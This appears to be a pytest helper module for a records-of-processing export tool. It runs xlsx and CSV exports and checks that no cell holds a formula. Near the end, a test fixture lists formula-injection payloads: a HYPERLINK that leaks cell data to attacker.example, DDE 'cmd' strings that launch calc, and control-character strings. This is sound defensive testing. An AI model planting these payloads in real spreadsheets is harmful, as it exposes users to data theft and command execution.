"""Helpers for the export tests: run the command in-process and read its files back."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from ropa_check.cli import main
from ropa_check.export.cells import MAX_CELL, from_csv

ROOT = Path(__file__).resolve().parents[2]
RECORDS = ROOT / "records"
DATA = Path(__file__).resolve().parent / "data"

Grid = list[list[str]]


def export(paths: list[str], target: Path, template: str, *extra: str) -> int:
    """Run `ropa-check export` in this process; the exit status."""
    return main(["export", *paths, "-o", str(target), "--template", template, "--today", "2026-11-30", *extra])


def read_xlsx(path: Path) -> dict[str, Grid]:
    """Every sheet as rows of text ("" for an empty cell), as openpyxl reads them; no cell may be a formula."""
    workbook = openpyxl.load_workbook(path)
    out: dict[str, Grid] = {}
    for ws in workbook.worksheets:
        rows: Grid = []
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert cell.value is None or isinstance(cell.value, str), (ws.title, cell.coordinate, cell.value)
            rows.append(["" if c.value is None else c.value for c in row])
        out[ws.title] = _trimmed(rows)
    return out


def read_csv(path: Path) -> Grid:
    """The CSV's rows, decoded as Excel would (UTF-8 behind its byte order mark), quote prefixes taken off."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
    return _trimmed([[from_csv(v) for v in row] for row in rows])


def _trimmed(rows: Grid) -> Grid:
    """Rows without trailing empty cells, and no trailing empty rows: how far a sheet reaches is not content."""
    out = []
    for row in rows:
        while row and row[-1] == "":
            row = row[:-1]
        out.append(list(row))
    while out and not out[-1]:
        out.pop()
    return out


def cell(grid: Grid, ref: str) -> str:
    """The text of cell ``ref`` (``B12``) in ``grid``; "" when beyond it."""
    from ropa_check.export.layout import column_index

    letters = "".join(c for c in ref if c.isalpha())
    row, column = int(ref[len(letters) :]) - 1, column_index(letters)
    if row >= len(grid) or column >= len(grid[row]):
        return ""
    return grid[row][column]


def zip_names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()


@pytest.fixture
def write_record(tmp_path: Path) -> Callable[..., Path]:
    """Write a record's files (name -> text) into a fresh folder; return the folder."""

    def write(files: dict[str, str], name: str = "record") -> Path:
        folder = tmp_path / name
        folder.mkdir()
        for file, text in files.items():
            (folder / file).write_text(text, encoding="utf-8")
        return folder

    return write


# A hostile record (tests/export/test_hostile.py, test_libreoffice.py): OWASP's formula starts everywhere.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
HOSTILE_RECORD = {
    "organisation": {"controller": {"name": FORMULAS[0], "email": "\u001b[31mred\u0007"}},
    "recipients": [{"id": "r", "name": FORMULAS[5], "kind": "processor"}],
    "activities": [
        {
            "id": "a",
            "name": FORMULAS[1],
            "business_function": FORMULAS[6],
            "purposes": [{"id": "p", "description": FORMULAS[3]}],
            "data_subjects": [{"id": "s", "name": FORMULAS[4]}],
            "data_categories": [
                {"id": "c", "name": FORMULAS[2], "description": "NUL\u0000 VT\u000b \ufffe \u202eevil"},
            ],
            "recipients": ["r"],
            "retention": {"description": "x" * (MAX_CELL + 10)},
        }
    ],
}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    folder = tmp_path / "hostile"
    folder.mkdir()
    # JSON escapes carry what a YAML file could not hold raw: a NUL, a vertical tab, U+FFFE.
    (folder / "record.json").write_text(json.dumps(HOSTILE_RECORD), encoding="utf-8")
    return folder
